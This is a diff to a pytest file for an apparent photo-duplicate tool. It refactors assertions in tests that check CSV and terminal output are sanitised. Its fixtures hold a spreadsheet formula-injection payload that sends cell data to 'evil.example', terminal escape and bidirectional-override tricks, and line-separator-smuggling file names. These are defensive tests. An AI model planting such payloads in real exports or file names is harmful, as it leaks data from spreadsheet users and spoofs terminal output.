@@ -9,7 +9,7 @@ import io
 import json
 import os
 import shutil
-from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 
@@ -17,6 +17,9 @@ from dupeviewer import report
 from dupeviewer.cli import main
 from dupeviewer.core.model import Group, ImageInfo, Member, ScanResult, Skipped, Stats
 from tests.helpers.pictures import exif_with, photo_like
+
+if TYPE_CHECKING:
+    from pathlib import Path
 
 HOSTILE_CAMERAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
@@ -60,7 +63,8 @@ def test_hostile_exif_camera_is_plain_text_in_scan_csv(
         assert f',"{quoted}",' in content  # and the field is quoted
     for row in typed_rows(content):
         assert all(isinstance(row[name], float) for name in NUMERIC)  # numbers stay numbers
-        assert isinstance(row["path"], str) and isinstance(row["camera"], str)
+        assert isinstance(row["path"], str)
+        assert isinstance(row["camera"], str)
 
 
 def _info(path: str, text: str, size: int) -> ImageInfo:
@@ -86,8 +90,10 @@ def test_every_text_cell_that_a_spreadsheet_would_evaluate_is_prefixed() -> None
     assert len(rows) == 2 * len(FORMULA_STARTS)
     for row in rows:
         start = row["path"][1]
-        assert row["path"][0] == "'" and start in FORMULA_STARTS
-        assert row["format"] == f"'{start}JPEG" and row["taken"] == f"'{start}2021-06-01"
+        assert row["path"][0] == "'"
+        assert start in FORMULA_STARTS
+        assert row["format"] == f"'{start}JPEG"
+        assert row["taken"] == f"'{start}2021-06-01"
         assert row["camera"] == f"'{start}cam"
         assert row["reason"] in ("", f"'{start}reason")
     assert sum(bool(r["reason"]) for r in rows) == len(FORMULA_STARTS)
@@ -109,7 +115,7 @@ def test_line_separators_are_those_of_str_splitlines() -> None:
 def test_path_list_refuses_a_name_that_a_reader_would_split(separator: str) -> None:
     keeper = "/photos/IMG_1.jpg"
     hostile = f"/photos/x{separator}{keeper}"  # read back, it would name the keeper
-    with pytest.raises(ValueError) as refused:
+    with pytest.raises(ValueError, match="/photos/x") as refused:
         report.path_list(["/photos/a.jpg", hostile])
     assert refused.value.args == (hostile,)  # the error names the offending file
     assert report.path_list([hostile], nul=True) == os.fsencode(hostile) + b"\0"  # exact
@@ -122,7 +128,7 @@ def test_path_list_holds_every_other_name_exactly() -> None:
     assert data.decode("utf-8", "surrogateescape").splitlines() == names
     assert data.splitlines() == [os.fsencode(n) for n in names]
     # a lone 0x85 byte (not UTF-8) is NEL for a reader that falls back to Latin-1
-    with pytest.raises(ValueError):
+    with pytest.raises(ValueError, match="/photos/x"):
         report.path_list([b"/photos/x\x85y.jpg".decode("utf-8", "surrogateescape")])
 
 
@@ -134,8 +140,10 @@ TERMINAL_TRICKS = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202egpj.ex
 def test_printable_escapes_control_codes_and_line_separators(trick: str) -> None:
     shown = report.printable(f"/photos/a{trick}b.jpg")
     assert shown.isprintable()
-    assert len(shown.splitlines()) == 1 and "\x1b" not in shown
-    assert shown.startswith("/photos/a\\") and shown.endswith("b.jpg")
+    assert len(shown.splitlines()) == 1
+    assert "\x1b" not in shown
+    assert shown.startswith("/photos/a\\")
+    assert shown.endswith("b.jpg")
 
 
 def test_text_output_of_a_scan_with_hostile_names_stays_on_its_lines(
@@ -147,7 +155,9 @@ def test_text_output_of_a_scan_with_hostile_names_stays_on_its_lines(
     (library / "bad\x1b[31m.jpg").write_bytes(b"not a picture")
     assert main(["scan", str(library), "--cache", str(cache_file), "--workers", "0"]) == 0
     out = capsys.readouterr().out
-    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
+    assert "\x1b" not in out
+    assert "\x9b" not in out
+    assert "\u202e" not in out
     lines = out.split("\n")
     assert out.splitlines() == lines[:-1]  # no line splits anywhere else
     assert len([line for line in lines if line.startswith("  ")]) == len(TERMINAL_TRICKS) + 1
@@ -158,7 +168,8 @@ def test_text_output_escapes_reasons_and_warnings() -> None:
     result = ScanResult((), (Skipped("/p/x.jpg", "cannot decode: \x1b[2J\nfake line"),), Stats(),
                         warnings=("cache at /tmp/\x1b]0;t\x07: locked",))
     out = report.to_text(result)
-    assert "\x1b" not in out and "\x07" not in out
+    assert "\x1b" not in out
+    assert "\x07" not in out
     assert len(out.splitlines()) == 3  # skipped, warning, summary
 
 
